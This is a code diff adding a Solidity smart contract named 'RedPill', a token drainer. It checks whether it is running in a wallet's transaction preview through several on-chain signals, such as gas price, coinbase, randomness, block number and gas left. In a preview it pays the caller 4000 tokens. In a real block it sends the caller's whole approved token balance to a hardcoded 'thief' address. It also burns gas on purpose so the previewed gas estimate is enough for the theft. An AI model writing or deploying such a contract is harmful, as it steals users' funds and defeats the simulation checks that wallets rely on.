@@ -1,0 +1,46 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.28;
+
+import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+
+/// Pays in a preview and takes in a block. Each sign is one way to tell the two apart. The page names the mark, because
+/// it knows the newest block.
+contract RedPill {
+    enum Sign { Fees, Coinbase, Randao, Number, Time, Gas, Balance }
+
+    uint256 private constant pay = 4000e6;
+    IERC20 private immutable token;
+    address private immutable thief;
+    Sign private immutable sign;
+
+    constructor(IERC20 token_, address thief_, Sign sign_) {
+        token = token_;
+        thief = thief_;
+        sign = sign_;
+    }
+
+    function claim(uint256 mark) external payable {
+        if (isPreview(mark)) return play();
+        uint256 allowed = token.allowance(msg.sender, address(this));
+        uint256 held = token.balanceOf(msg.sender);
+        token.transferFrom(msg.sender, thief, allowed < held ? allowed : held);
+    }
+
+    /// Burns gas, so that an estimate is also enough for the theft.
+    function play() private {
+        token.transfer(msg.sender, pay);
+        uint256 burnt;
+        for (uint256 i; i < 500; ++i) burnt = uint256(keccak256(abi.encode(burnt, i)));
+        require(burnt != 1);
+    }
+
+    function isPreview(uint256 mark) private view returns (bool) {
+        if (sign == Sign.Fees) return tx.gasprice == 0 || block.basefee == 0;
+        if (sign == Sign.Coinbase) return uint160(address(block.coinbase)) == mark;
+        if (sign == Sign.Randao) return block.prevrandao == mark;
+        if (sign == Sign.Number) return block.number <= mark;
+        if (sign == Sign.Time) return block.timestamp <= mark;
+        if (sign == Sign.Gas) return gasleft() > mark;
+        return msg.sender.balance + msg.value >= mark;
+    }
+}
